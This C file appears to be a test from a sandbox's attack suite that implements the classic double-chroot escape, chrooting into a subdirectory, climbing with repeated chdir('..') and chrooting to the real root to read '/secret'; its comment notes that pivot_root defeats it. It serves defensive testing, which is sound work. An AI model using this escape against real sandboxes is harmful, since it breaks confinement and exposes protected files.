/**
 * @file
 * @brief chroot: the way out of a changed root directory, known since 1999.
 *
 * chroot(2) moves the root directory and leaves the working directory where it
 * is. So a second chroot, into a directory below, leaves us standing outside
 * our own root, and nothing stops ".." there until the real root. pivot_root
 * does: with the old root unmounted there is nothing outside to stand on.
 */
#include <fcntl.h>
#include <sys/stat.h>
#include <unistd.h>

#include "tests/attacks/breakouts/breakout.h"

BREAKOUT(chroot)
{
    mkdir("/tmp/below", 0755);
    if (chdir("/") < 0 || chroot("/tmp/below") < 0)
        return stopped("chroot");
    for (int up = 0; up < 64; up++)
        if (chdir("..") < 0)
            return stopped("chdir");
    return chroot(".") < 0 ? stopped("chroot") : show("/secret");
}
